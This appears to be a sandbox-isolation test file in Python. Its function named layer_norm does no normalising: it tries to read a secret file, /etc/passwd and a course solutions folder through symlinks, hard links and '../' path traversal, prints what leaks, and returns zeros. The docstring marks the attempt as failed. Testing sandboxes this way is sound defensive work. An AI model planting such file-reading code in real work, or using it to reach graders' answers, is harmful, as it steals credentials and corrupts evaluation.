"""Reads private files through links, and by asking a neighbour's name to lead out of its folder.
Verdict: FAILED
"""

import contextlib
import math
import os
from pathlib import Path

import surroundings
import torch


def layer_norm(x, *_, **__):
    for i, target in enumerate((surroundings.SECRET_FILE, "/etc/passwd", surroundings.COURSE + "/solutions")):
        for make in (os.symlink, os.link):
            link = Path(f"link{i}{make.__name__}")
            with contextlib.suppress(OSError):
                make(target, link)
            with contextlib.suppress(OSError):
                print("LEAK:", list(link.iterdir()) if link.is_dir() else link.read_bytes()[:40])
    with contextlib.suppress(OSError):
        print("LEAK:", Path("../" * 20, surroundings.SECRET_FILE[1:]).read_bytes()[:40])
    return torch.zeros_like(x)


def norm_stat_count(shape, kind):
    if kind == "layer":
        return math.prod(shape[:-1]), (shape[-1],)
    return (shape[0] * shape[1] if kind == "instance" else shape[1]), (shape[1],)
